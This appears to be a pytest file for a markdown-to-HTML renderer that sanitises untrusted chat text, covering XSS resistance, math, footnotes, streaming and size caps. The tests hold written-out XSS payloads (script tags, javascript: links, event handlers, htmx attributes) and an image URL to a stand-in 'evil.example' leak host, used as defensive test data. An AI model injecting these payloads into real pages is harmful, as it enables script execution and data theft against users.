"""render_markdown: untrusted markdown in, HTML that cannot run or trigger anything out."""

from __future__ import annotations

from numi.render import render_markdown, sanitize

ALLOWED_ATTRIBUTES = {"href", "title", "class", "start", "rel", "target"}


def test_corpus_is_big_enough(xss):
    assert len(xss.inputs) >= 30 and len(set(xss.inputs)) == len(xss.inputs)


def test_hostile_markdown_renders_inert(hostile, xss):
    html = str(render_markdown(hostile))
    assert html.strip(), "the input vanished: a user should still see what was written"
    assert xss.html_problems(html) == [], html
    from html.parser import HTMLParser

    seen = []

    class Attributes(HTMLParser):
        def handle_starttag(self, tag, attrs):
            seen.extend(name for name, _ in attrs)

    Attributes().feed(html)
    assert set(seen) <= ALLOWED_ATTRIBUTES, html


def test_the_checker_catches_what_it_should(xss):
    """The checks above are only worth something if they fail on dangerous HTML."""
    for bad in (
        "<script>x</script>",
        '<a href="javascript:x">a</a>',
        '<a href=" JAVA\tscript:x">a</a>',
        '<p onclick="x">',
        '<div hx-get="/x">',
        '<div data-hx-post="/x">',
        "<div ws-send>",
        '<p id="chat-list">',
        '<p style="x">',
        "<svg>",
        '<a href="data:text/html,x">a</a>',
        '<a href="vbscript:x">a</a>',
        "<iframe>",
        "<form>",
        "<meta>",
        "<base>",
    ):
        assert xss.html_problems(bad), bad
    assert (
        xss.html_problems('<a href="https://x.example/a:b">ok</a><a href="/relative">r</a>') == []
    )


def test_commonmark_tables_strikethrough_and_code():
    html = str(
        render_markdown(
            "# Title\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~old~~ **new**\n\n```python\ndef f(): pass\n```"
        )
    )
    assert "<h3>Title</h3>" in html, "model headings sit below the page's own h1 and h2"
    assert "<table>" in html and "<td>1</td>" in html
    assert "<del>old</del>" in html or "<s>old</s>" in html
    assert "<strong>new</strong>" in html
    # Highlighted with CSS classes, never inline styles.
    assert 'class="hl-k"' in html and "style=" not in html


def test_raw_html_is_shown_as_text():
    html = str(render_markdown("Use <b>bold</b> & <script>x()</script>"))
    assert "&lt;b&gt;bold&lt;/b&gt;" in html and "&lt;script&gt;" in html and "<b>" not in html


def test_links_are_kept_safe():
    html = str(render_markdown("[docs](https://example.org/docs) and [mail](mailto:a@example.org)"))
    assert 'href="https://example.org/docs"' in html and 'href="mailto:a@example.org"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_images_become_links():
    html = str(render_markdown("![chart](https://evil.example/leak?q=secret)"))
    assert "<img" not in html
    assert 'href="https://evil.example/leak?q=secret"' in html and "[image: chart]" in html


def test_sanitize_is_an_allow_list():
    html = sanitize(
        '<p class="x" data-foo="1" hx-get="/a" onclick="b" id="msg-1">t</p><custom-el>y</custom-el>'
    )
    assert html == "<p>t</p>y"


def test_empty_input():
    assert str(render_markdown("")) == "" and str(render_markdown(None)) == ""


def test_citation_markers_link_to_their_sources():
    sources = [
        {"n": 1, "title": "Docs", "url": "https://example.org/a"},
        {"n": 2, "title": "Local", "url": "javascript:alert(1)"},
    ]
    html = "".join(
        block.html
        for block in render_blocks(
            "Paris is big [1]. Also [2], and `a[1]` or x[1] stay. See [3].", sources
        )
    )
    assert (
        '<a href="https://example.org/a" target="_blank" rel="noopener noreferrer nofollow">[1]</a>'
        in html
    )
    assert "javascript" not in html, "a source without an http(s) URL is not linked"
    assert "[2]" in html and "[3]" in html
    assert "<code>a[1]</code>" in html and "x[1]" in html


# --- complete markdown (issue 11) ----------------------------------------------------------

from html.parser import HTMLParser  # noqa: E402

import pytest  # noqa: E402

from numi.render import MATHML_TAGS, StreamRender, render_blocks  # noqa: E402


def _tags(html: str) -> list[tuple[str, dict]]:
    found = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

        handle_startendtag = handle_starttag

    Tags(convert_charrefs=True).feed(html)
    return found


def test_dollar_and_bracket_math_become_mathml():
    html = str(
        render_markdown(
            "Inline $a^2$ and \\(b_1\\).\n\n$$\n\\frac{1}{2}\n$$\n\n\\[\n\\sqrt{x}\n\\]\n\n"
            "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}"
        )
    )
    tags = [tag for tag, _ in _tags(html)]
    assert tags.count("math") == 5
    assert (
        "<msup><mi>a</mi><mn>2</mn></msup>" in html and "<msub><mi>b</mi><mn>1</mn></msub>" in html
    )
    assert "<mfrac>" in html and "<msqrt>" in html and "<mtable" in html
    assert '<math display="block" displaystyle="true">' in html
    assert '<math display="inline">' in html
    assert "\\(" not in html and "\\[" not in html and "$" not in html, (
        "no delimiter is left as text"
    )


def test_math_is_typeset_as_tex_would():
    """Issue 25 item 12: limits under ∑ and lim when displayed and beside them inline (one
    markup: movablelimits), a large integral with its limits beside it, display style."""
    inline = str(render_markdown(r"$\sum_{k=1}^n k$, $\lim_{x\to 0} x$ and $\int_0^1 x\,dx$"))
    assert '<munderover><mo movablelimits="true" largeop="true">∑</mo>' in inline
    assert '<munder><mo movablelimits="true">lim</mo>' in inline
    assert '<msubsup><mo largeop="true" movablelimits="false">∫</mo>' in inline
    assert "displaystyle" not in inline
    shown = str(render_markdown("$$\n\\int_0^1 x\\,dx + \\sum_{k=1}^{n} k\n$$"))
    assert '<math display="block" displaystyle="true">' in shown
    assert '<msubsup><mo largeop="true" movablelimits="false">∫</mo>' in shown
    assert '<munderover><mo movablelimits="true" largeop="true">∑</mo>' in shown


def test_invalid_latex_is_shown_as_code_never_an_error():
    html = str(render_markdown("Broken $\\frac{a}{$ here.\n\n$$\n\\frac{1}{\n$$"))
    assert '<code class="math-error">\\frac{a}{</code>' in html
    assert '<pre class="math-error"><code>\\frac{1}{</code></pre>' in html
    assert "<math" not in html


def test_math_cannot_carry_links_handlers_or_markup():
    payloads = [
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{<script>alert(1)</script>}$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "$x$<math href=javascript:alert(1)>",
        '$$\n\\text{<a xlink:href="javascript:alert(1)">x</a>}\n$$',
        "$\\color{red}{x}\\style{color:red}{y}$",
        "$\\mathrm{\\unicode{x41}}$ \\(\\text{</math><script>x</script>}\\)",
    ]
    for payload in payloads:
        html = str(render_markdown(payload))
        for tag, attrs in _tags(html):
            assert (
                tag not in ("script", "img", "a")
                or tag == "a"
                and "javascript" not in attrs.get("href", "")
            ), (payload, html)
            for name in attrs:
                assert not name.startswith("on") and name not in (
                    "href",
                    "xlink:href",
                    "style",
                    "id",
                    "mathcolor",
                ), (payload, html)
            if tag in MATHML_TAGS:
                assert "href" not in attrs


def test_footnotes_task_lists_and_bare_urls():
    html = str(
        render_markdown(
            "See https://example.org/x?a=1 now.[^1]\n\n- [ ] todo\n- [x] done\n\n[^1]: The **note**."
        )
    )
    assert (
        '<a href="https://example.org/x?a=1" target="_blank" rel="noopener noreferrer nofollow">'
        in html
    )
    # The reference links to its note and the note back (by label: no ids, static/js/app.js).
    assert '<sup class="footnote-ref"><a href="#fn-1" title="Footnote 1"' in html
    assert (
        '<div class="footnote"><span class="footnote-label">[1]</span>'
        '<a class="footnote-back" href="#fnref-1" title="Back to the text"'
        in html
        and "<strong>note</strong>" in html
    )
    assert (
        '<span class="task-box">☐</span> todo' in html
        and '<span class="task-box checked">☑</span> done' in html
    )
    assert "<input" not in html and " id=" not in html, (
        "no form controls and no ids from model text"
    )


def test_table_alignment_is_kept_as_classes():
    html = str(render_markdown("| l | c | r | n |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |"))
    assert '<th class="align-left">l</th>' in html and '<th class="align-center">c</th>' in html
    assert '<td class="align-right">3</td>' in html and "<td>4</td>" in html
    assert "style=" not in html


def test_links_open_in_a_new_tab_without_referrer():
    html = str(
        render_markdown(
            "[a](https://example.org) <https://example.org/b> [ref][r]\n\n[r]: https://example.org/c"
        )
    )
    links = [attrs for tag, attrs in _tags(html) if tag == "a"]
    assert len(links) == 3
    for attrs in links:
        assert attrs["target"] == "_blank" and attrs["rel"] == "noopener noreferrer nofollow"


def test_headings_are_demoted_below_the_page_headings():
    html = str(render_markdown("# One\n\n## Two\n\n### Three\n\n###### Six"))
    assert (
        "<h3>One</h3>" in html
        and "<h4>Two</h4>" in html
        and "<h5>Three</h5>" in html
        and "<h6>Six</h6>" in html
    )
    assert "<h1" not in html and "<h2" not in html


def test_code_blocks_are_their_own_blocks_with_a_language():
    blocks = render_blocks(
        "Intro\n\n```python\nx = 1\n```\n\n    indented\n\n```\nplain\n```\n\n- ```js\n  nested\n  ```"
    )
    assert [(b.kind, b.lang) for b in blocks] == [
        ("text", ""),
        ("code", "python"),
        ("code", ""),
        ("code", ""),
        ("text", ""),
    ]
    assert "hl-" in blocks[1].html and "<pre" in blocks[2].html


@pytest.mark.parametrize(
    "payload",
    [
        "$x$ $$y$$ \\(z\\) <span id=msg-1-body>",
        "[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: x",
        "- [x] <input autofocus onfocus=alert(1)>",
        "http://x.example/<script>alert(1)</script>",
        "| a |\n|:-:|\n| <div hx-get=/x> |",
        '```js" id="turn-x-open\n1\n```',
        'www.example.org/"onmouseover="alert(1)',
    ],
)
def test_new_plugins_keep_output_inert(payload, xss):
    html = "".join(block.html for block in render_blocks(payload))
    # <math> is allowed now (MathML, presentation attributes only: checked above).
    assert [p for p in xss.html_problems(html) if p != "<math>"] == [], html
    assert all("id" not in attrs and "style" not in attrs for _, attrs in _tags(html)), html


# --- the block splitter ---------------------------------------------------------------------

SAMPLE = """# Plan

Here is a scripted answer with **bold**, `code` and a link to https://example.org/docs.

1. First item
2. Second item

3. Third, loose
   continued lazily

- [ ] todo
- [x] done

```python
def f(x):

    return x * 2
```

| a | b |
|:--|--:|
| 1 | 2 |

$$
\\frac{1}{2}
$$

\\[
x^2

\\]

\\begin{align}
a &= b
\\end{align}

Inline $a+b$ and \\(c\\) math.[^1] See [the docs][docs] and [later][].

> quoted
> text

    indented code

    more

Setext
------

[^1]: A footnote.

    Its second paragraph.

[docs]: https://example.org/ref "Ref"

Final paragraph, then [later]: https://example.org/later

[later]: https://example.org/later
"""


def _stream(text: str, cuts):
    """Feed growing prefixes; after each, the completed blocks (kept across frames) and the
    open ones must render exactly as the whole prefix renders at once."""
    render, done = StreamRender(), []
    for cut in cuts:
        frame = render.feed(text[:cut])
        done = list(frame.completed) if frame.reset else done + frame.completed
        assert done == render.blocks
        streamed = [block.html for block in done + frame.open]
        assert streamed == [block.html for block in render_blocks(text[:cut])], repr(
            text[:cut][-80:]
        )
    return render


def test_streamed_blocks_equal_the_full_render_at_every_prefix():
    render = _stream(SAMPLE, range(1, len(SAMPLE) + 1))
    # All but the last block and the one before it (whose end the last line decides).
    assert len(render.blocks) >= len(render_blocks(SAMPLE)) - 2, (
        "blocks were completed along the way"
    )


@pytest.mark.parametrize("step", [3, 7, 50])
def test_streamed_blocks_equal_the_full_render_in_bigger_steps(step):
    _stream(SAMPLE, [*range(step, len(SAMPLE), step), len(SAMPLE)])


def test_the_work_per_frame_follows_the_open_block():
    text = "".join(f"Paragraph {i} with some words.\n\n" for i in range(300))
    render = StreamRender()
    render.feed(text)
    assert len(text) - render.offset < 40, "only the last paragraph is still open"
    frame = render.feed(text + "More")
    # The last paragraph stays open until the line after it is finished.
    assert frame.completed == [] and len(frame.open) == 2 and "More" in frame.open[1].html
    frame = render.feed(text + "More\n")
    assert (
        len(frame.completed) == 1
        and "Paragraph 299" in frame.completed[0].html
        and len(frame.open) == 1
    )


def test_a_list_is_not_completed_before_its_next_item_is_known():
    render = StreamRender()
    render.feed("1. a\n\n2")  # "2" could still become item 2 of the same list
    assert render.blocks == []
    frame = render.feed("1. a\n\n2. b\n\nx\n")
    assert (
        frame.completed
        and "<li>" in frame.completed[0].html
        and frame.completed[0].html.count("<li>") == 2
    )


# Snippets that stress block boundaries: lists that may continue after a blank line,
# setext underlines, tables, fences, math that opens in one block and closes later.
SNIPPETS = [
    "para one\n",
    "para two with *em*\n",
    "\n",
    "\n\n",
    "- a\n",
    "- b\n",
    "  cont\n",
    "1. x\n",
    "2. y\n",
    "3) z\n",
    "```py\n",
    "```\n",
    "code()\n",
    "    indented\n",
    "Title\n",
    "---\n",
    "===\n",
    "| a | b |\n",
    "|---|:-:|\n",
    "| 1 | 2 |\n",
    "$$\n",
    "\\frac{1}{2}\n",
    "\\[\n",
    "\\]\n",
    "\\begin{align}\n",
    "a&=b\n",
    "\\end{align}\n",
    "> quote\n",
    "[r]: https://e.org/r\n",
    "see [r] and [x][r]\n",
    "[^1]: note\n",
    "text[^1]\n",
    "* * *\n",
    "10. ten\n",
    "    \n",
    "- [ ] t\n",
    "$a$ and \\(b\\)\n",
    "~~~\n",
    "# H\n",
    "  - nested\n",
]


def test_streamed_blocks_equal_the_full_render_for_random_documents():
    import random

    rng = random.Random(11)
    for _ in range(60):
        text = "".join(rng.choice(SNIPPETS) for _ in range(rng.randint(5, 25)))
        step = rng.randint(1, 4)
        _stream(text, [*range(step, len(text), step), len(text)])


def test_closed_math_and_code_do_not_hold_later_blocks_open():
    text = "$$x$$ is shown inline.\n\n```latex\n\\begin{align}\n```\n\nNext.\n\nLast\n"
    render = StreamRender()
    render.feed(text)
    assert [b.kind for b in render.blocks] == ["text", "code", "text"] and len(render.open) == 1
    held = StreamRender()
    held.feed("Before\n\\begin{align}\na\n\nAfter.\n\nLast")
    assert held.blocks == [], "open math may still close and take in what follows"


def test_the_page_stylesheet_carries_the_code_highlighting_rules():
    """code.css holds the Pygments rules (in the one stylesheet bundle); regenerate them from
    render.highlight_css() when the style changes."""
    from pathlib import Path

    from numi.render import highlight_css

    stylesheet = (
        Path(__file__).resolve().parent.parent / "static" / "css" / "code.css"
    ).read_text()
    rules = [
        line for line in highlight_css().splitlines() if line.strip() and not line.startswith("/*")
    ]
    assert rules and all(rule in stylesheet for rule in rules)


def test_text_past_the_markdown_cap_is_shown_plain_and_escaped(make_app):
    """Issue 28, item 5: past NUMI_MARKDOWN_MAX_CHARS no markdown is parsed (a 2 MB message
    froze every user for 33 s); the text still shows, escaped."""
    app = make_app(NUMI_MARKDOWN_MAX_CHARS=60)
    short = "**bold** <b>x</b>"
    long = short + " and more" * 10
    with app.app_context():
        assert "<strong>bold</strong>" in render_markdown(short)
        html = str(render_markdown(long))
    assert html.startswith('<pre class="msg-plain">') and "<strong>" not in html
    assert "**bold** &lt;b&gt;x&lt;/b&gt; and more" in html
    assert "<strong>" not in str(render_markdown("**b** " * 20_000)), (
        "the default cap holds outside an app too"
    )


def test_a_stream_past_the_markdown_cap_is_shown_plain_one_delta_at_a_time():
    """Issue 28, item 5: a streamed 200 KB answer stalled others for 4.2 s, its open block
    re-parsed on every delta. Past the cap the stream is shown as a saved message past it is:
    escaped text, and each frame carries only what is new."""
    render, text = StreamRender(cap=200), ""
    for n in range(5):
        text += f"Line **{n}** of markdown.\n\n"
        frame = render.feed(text)
    assert "<strong>" in "".join(b.html for b in render.blocks + render.open), (
        "below the cap: markdown"
    )
    text += "<b>x</b> **past** the cap " * 10 + "\n"
    frame = render.feed(text)
    assert frame.reset and all(b.kind == "plain" for b in frame.completed + frame.open)
    shown = "".join(b.html for b in frame.completed + frame.open)
    assert "<strong>" not in shown and "&lt;b&gt;x&lt;/b&gt; **past**" in shown and "**0**" in shown
    for n in range(200):
        text += f"more **{n}** "
        frame = render.feed(text)
        size = sum(len(b.html) for b in frame.completed + frame.open)
        assert not frame.reset and size < 5000, "a frame past the cap carries the new text only"
    text += "\nend\n"
    render.feed(text)
    joined = "".join(b.html for b in render.blocks + render.open)
    assert "<strong>" not in joined and joined.count("more **199**") == 1


def test_a_long_open_block_is_not_re_parsed_on_every_delta():
    """Issue 28, item 5: an open 100 KB code fence re-parsed (and highlighted) on each of its
    deltas cost 133 s in all; past 8 KB the open tail is re-parsed once it grows by a quarter,
    and the block still ends exactly as rendered whole."""
    fence = "```python\n" + "".join(f"x_{i} = compute({i})\n" for i in range(3000))
    render, parsed = StreamRender(cap=10**9), 0
    for end in range(200, len(fence) + 1, 200):
        frame = render.feed(fence[:end])
        parsed += frame.open is not None
    deltas = len(fence) // 200
    assert parsed < deltas / 5, f"{parsed} of {deltas} deltas re-parsed the open block"
    # Once the text has grown enough after the fence closes, all is as rendered whole.
    text = fence + "```\n\n" + "After.\n\n" * 3000
    render.feed(text)
    same = [b.html for b in render.blocks + render.open] == [b.html for b in render_blocks(text)]
    assert same, "the streamed blocks differ from the whole text's"
